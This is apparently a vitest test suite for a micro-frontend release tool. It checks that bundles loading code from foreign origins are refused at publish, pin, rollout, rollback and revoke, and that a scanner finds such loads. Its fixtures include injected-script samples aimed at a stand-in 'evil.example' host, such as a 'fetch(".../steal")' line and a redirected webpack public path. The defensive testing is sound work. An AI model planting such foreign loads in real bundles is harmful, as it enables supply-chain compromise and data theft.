import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { fakeBuild } from '../testing/fake-build.ts';
import { releaseHost, releaseRemote } from '../testing/fake-releases.ts';
import { integrityOf } from './digest.ts';
import { readEnvironment } from './environment.ts';
import { Refusal, type Finding } from './finding.ts';
import { originsIn } from './foreign-origins.ts';
import { canPin } from './operate/can-pin.ts';
import { configure, revoke, rollback } from './operate/change.ts';
import { startRollout } from './operate/rollouts.ts';
import { pageEnvironment } from './page-environment.ts';
import { pin } from './pin.ts';
import { publish } from './publish.ts';
import { RELEASE_FILE, fileKey, isPublished, readRelease } from './release.ts';
import { artifactStore } from './storage/stores.ts';

const environments = ['local', 'staging', 'production'];
const unseen = { reason: 'a test', isUnseen: true };
const EVIL = 'https://cdn.evil.example';
const FOREIGN = `__webpack_require__.p="${EVIL}/numbers/";`;

let folder = '';
beforeEach(async () => {
  folder = mkdtempSync(path.join(tmpdir(), 'origins-'));
  process.env['MFE_STORE'] = path.join(folder, 'store');
  await releaseHost('1.0.0');
  await releaseRemote('numbers', '1.0.0');
  for (const name of environments) {
    const wanted = ['host', 'numbers'].map((app) => ({ app, version: '1.0.0' }));
    await pin(name, wanted, unseen);
  }
});
afterEach(() => {
  delete process.env['MFE_STORE'];
  rmSync(folder, { recursive: true });
});

/** What something is refused with; nothing if it is not. */
async function findings(work: Promise<unknown>): Promise<readonly Finding[]> {
  try {
    await work;
    return [];
  } catch (error) {
    if (error instanceof Refusal) return error.findings;
    throw error;
  }
}

/** Puts a version into the store without the checks of `publish`, as other tools might. */
async function smuggle(version: string, script: string, parts: object = {}, ofManifest: object = {}) {
  const { release } = await readRelease('numbers', '1.0.0');
  if (release.kind !== 'remote') throw new Error('a remote expected');
  const files = { 'main.js': { integrity: integrityOf(script), size: script.length } };
  const manifest = { ...release.manifest, ...ofManifest };
  const written = JSON.stringify({ ...release, version, files, manifest, ...parts });
  await artifactStore().create(fileKey('numbers', version, 'main.js'), Buffer.from(script));
  await artifactStore().create(fileKey('numbers', version, RELEASE_FILE), Buffer.from(written));
}

const build = (version: string, script: string) => {
  const dir = path.join(folder, version);
  mkdirSync(dir);
  return fakeBuild('numbers', version, dir, script);
};
const numbers = (version: string) => [{ app: 'numbers', version }];
const refusal = (evidence: string) => ({
  code: 'foreign-origin',
  evidence: expect.stringContaining(evidence),
  remedy: expect.stringMatching(/\S/),
});

describe('a build that loads from another origin', () => {
  it('is not published', async () => {
    expect(await findings(publish(await build('2.0.0', FOREIGN)))).toEqual([refusal(EVIL), refusal(EVIL)]);
    expect(await isPublished('numbers', '2.0.0')).toBe(false);
  });

  it.each(environments)('is not pinned, and not rolled out, in %s', async (name) => {
    await smuggle('2.0.0', FOREIGN);
    const plan = { percent: 1, segments: [], steps: [] };
    const evidence = `main.js of numbers@2.0.0 loads from ${EVIL}, which ${name} does not allow`;
    expect(await findings(pin(name, numbers('2.0.0'), unseen))).toEqual([refusal(evidence)]);
    expect(await findings(startRollout(name, numbers('2.0.0'), plan, unseen))).toEqual([refusal(evidence)]);
    expect((await canPin([name], numbers('2.0.0')))[0]).toMatchObject({ yes: false, findings: [refusal(evidence)] });
    expect((await readEnvironment(name)).environment.remotes['numbers']?.version).toBe('1.0.0');
  });

  it('is published and pinned where the environment allows the origin, and in no other', async () => {
    await configure('staging', { thirdParties: [EVIL] }, { reason: 'a test' });
    await publish(await build('2.0.0', FOREIGN));
    expect(await findings(pin('staging', numbers('2.0.0'), unseen))).toEqual([]);
    expect(await findings(pin('production', numbers('2.0.0'), unseen))).toEqual([refusal(EVIL), refusal(EVIL)]);
  });

  it.each([
    ['all apps', []],
    ['its app alone', ['numbers']],
  ])('does not come back by a rollback of %s once its origin is no longer allowed', async (_what, apps) => {
    await configure('staging', { thirdParties: [EVIL] }, unseen);
    await publish(await build('2.0.0', FOREIGN));
    const { revision } = await pin('staging', numbers('2.0.0'), unseen);
    await pin('staging', numbers('1.0.0'), unseen);
    await configure('staging', { thirdParties: [] }, unseen);
    const back = rollback('staging', { ...unseen, to: revision, apps });
    expect(await findings(back)).toEqual([refusal(EVIL), refusal(EVIL)]);
    expect((await readEnvironment('staging')).environment.remotes['numbers']?.version).toBe('1.0.0');
    await configure('staging', { thirdParties: [EVIL] }, unseen);
    await rollback('staging', { ...unseen, to: revision, apps });
    expect((await readEnvironment('staging')).environment.remotes['numbers']?.version).toBe('2.0.0');
  });

  it('takes the place of no revoked version once its origin is no longer allowed', async () => {
    await configure('staging', { thirdParties: [EVIL] }, unseen);
    await publish(await build('2.0.0', FOREIGN));
    await pin('staging', numbers('2.0.0'), unseen);
    await pin('staging', numbers('1.0.0'), unseen);
    await configure('staging', { thirdParties: [] }, unseen);
    const revoked = revoke('staging', { app: 'numbers', version: '1.0.0' }, unseen);
    expect(await findings(revoked)).toEqual([refusal(EVIL), refusal(EVIL)]);
  });

  it('is not pinned with its entry, a chunk or an address of its manifest elsewhere', async () => {
    const script = 'run();';
    const digest = { integrity: integrityOf(script), size: script.length };
    const entry = `${EVIL}/main.js`;
    await smuggle('3.0.0', script, { entry, files: { [entry]: digest, 'main.js': digest } });
    await smuggle('3.0.1', script, { entry: '../../billing/1.0.0/main.js' });
    await smuggle('3.0.2', script, { pages: { '/numbers': ['//cdn.evil.example/a.js'] } });
    await smuggle('3.0.3', script, {}, { remoteEntry: `${EVIL}/remoteEntry.js` });
    for (const version of ['3.0.0', '3.0.1', '3.0.2', '3.0.3']) {
      const found = await findings(pin('production', numbers(version), unseen));
      expect({ version, codes: found.map(({ code }) => code) }).toEqual({
        version,
        codes: expect.arrayContaining(['foreign-origin']),
      });
      expect((await readEnvironment('production')).environment.remotes['numbers']?.version).toBe('1.0.0');
    }
  });
});

describe('production', () => {
  it('takes builds from no other origin by an override either', async () => {
    const overrides = { overrides: true, overrideOrigins: [EVIL] };
    expect(await findings(configure('production', overrides, unseen))).toEqual([refusal(EVIL)]);
    expect(await findings(configure('staging', overrides, unseen))).toEqual([]);
    const { environment } = await readEnvironment('production');
    expect(await pageEnvironment({ ...environment, ...overrides })).not.toHaveProperty('origins');
    expect((await pageEnvironment((await readEnvironment('staging')).environment)).origins).toEqual([EVIL]);
  });
});

describe('origins that a file loads from', () => {
  it.each([
    ['a.js', 'r.p="https://evil.example/x/"', 'https://evil.example'],
    ['a.js', "r.p='//evil.example/'", 'https://evil.example'],
    ['a.js', String.raw`r.p="\/\/evil.example/"`, 'https://evil.example'],
    ['a.js', String.raw`r.p="https:\\evil.example"`, 'https://evil.example'],
    ['a.js', 'import("https://evil.example/a.js")', 'https://evil.example'],
    ['a.js', 'import a from"https://evil.example/a.js"', 'https://evil.example'],
    ['a.js', 'import(`https://evil.example/${a}.js`)', 'https://evil.example'],
    ['a.js', 'import("data:text/javascript,alert(1)")', 'data:'],
    ['a.js', 'new Worker("https://evil.example/w.js")', 'https://evil.example'],
    ['a.js', 's.src="http://evil.example:8080/a.js"', 'http://evil.example:8080'],
    ['a.js', 'fetch("https://evil.example/steal",{})', 'https://evil.example'],
    ['a.js', 'new WebSocket("wss://evil.example")', 'wss://evil.example'],
    ['a.css', '@import "https://evil.example/a.css";', 'https://evil.example'],
    ['a.css', 'a{background:url( //evil.example/a.png )}', 'https://evil.example'],
    ['documents.json', JSON.stringify('<script src="https://evil.example/a.js"></script>'), 'https://evil.example'],
    ['a.svg', '<image href="https://evil.example/a.png"/>', 'https://evil.example'],
  ])('are found: %s with %s', (name, text, origin) => {
    expect(originsIn(name, text)).toEqual([origin]);
  });

  it.each([
    ['a.js', 'r.p="/numbers/1.0.0/";import("./a.js");fetch("/api/x");e.src="data:image/png;base64,AA=="'],
    ['a.js', 'createElementNS("http://www.w3.org/2000/svg","svg");throw Error("see https://react.dev/errors/1")'],
    ['a.js', 'jsx("a",{href:"https://example.com"});r.p=0;r.p=e'],
    ['a.css', 'a{background:url("data:image/svg+xml,%3Csvg xmlns=http://www.w3.org/2000/svg%3E")}'],
    ['a.svg', '<svg xmlns="http://www.w3.org/2000/svg"/>'],
  ])('are none where nothing is loaded: %s with %s', (name, text) => {
    expect(originsIn(name, text)).toEqual([]);
  });
});
